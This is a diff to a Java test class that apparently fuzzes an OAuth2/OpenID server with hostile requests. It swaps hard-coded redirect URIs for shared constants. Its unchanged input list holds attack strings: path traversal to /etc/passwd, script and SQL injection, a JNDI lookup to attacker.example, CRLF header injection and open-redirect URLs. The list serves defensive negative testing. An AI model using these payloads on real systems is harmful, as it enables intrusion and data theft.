@@ -6,6 +6,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
+import java.util.Locale;
 import java.util.Random;
 import java.util.function.Predicate;
 import java.util.function.UnaryOperator;
@@ -36,10 +37,11 @@ final class HostileRequests {
 			"99999999999999999999999999999", "1e309", "NaN", "../../../etc/passwd", "<script>alert(1)</script>",
 			"' OR '1'='1", "${jndi:ldap://attacker.example/x}", "%s%n%x", "\\", "\"", "{}", "[]", "a\r\nX-Injected: 1",
 			"http://attacker.example/cb", "javascript:alert(1)", "//attacker.example", "data:text/html,x",
-			"http://127.0.0.1:8080/login/oauth2/code/demo#fragment", "http://127.0.0.1:8080/login/oauth2/code/demo?x=1",
-			"HTTP://127.0.0.1:8080/login/oauth2/code/demo", "http://127.0.0.1:8080/login/oauth2/code/demo/../x",
-			"openid openid openid", "openid\tprofile", "S256", "plain", "code token", "none", "\u202Eevil", "\u0000",
-			"\uFEFF", "\uD83D\uDE00", "e\u0301", "\u0130", "\u01C5");
+			TestClients.WEB_REDIRECT_URI + "#fragment", TestClients.WEB_REDIRECT_URI + "?x=1",
+			TestClients.WEB_REDIRECT_URI.toUpperCase(Locale.ROOT), TestClients.WEB_REDIRECT_URI + "/../x",
+			TestClients.WEB_REDIRECT_URI.replace("/login/", "//login//"),
+			"http://127.0.0.1:9999/login/oauth2/code/demo", "openid openid openid", "openid\tprofile", "S256", "plain",
+			"code token", "none", "\u202Eevil", "\u0000", "\uFEFF", "\uD83D\uDE00", "e\u0301", "\u0130", "\u01C5");
 
 	/**
 	 * Sequences that are valid percent-encoding of invalid UTF-8: lone continuation,
@@ -248,8 +250,8 @@ final class HostileRequests {
 		List<String> parameters = post ? draft.formBody() : draft.query;
 		parameters.add("id_token_hint=" + encode(pick(jwtLike(), tamperedSignature(this.fixtures.idToken()),
 				this.fixtures.accessToken(), randomAlphanumeric(30))));
-		parameters
-			.add("post_logout_redirect_uri=" + encode(pick("http://127.0.0.1:8080/", "https://attacker.example/")));
+		parameters.add("post_logout_redirect_uri="
+				+ encode(pick(TestClients.CLIENT_DEMO_URL + "/", "https://attacker.example/")));
 		parameters.add("client_id=" + pick(TestClients.WEB_CLIENT_ID, "no-such-client"));
 		parameters.add("state=" + randomAlphanumeric(8));
 		if (this.random.nextBoolean()) {
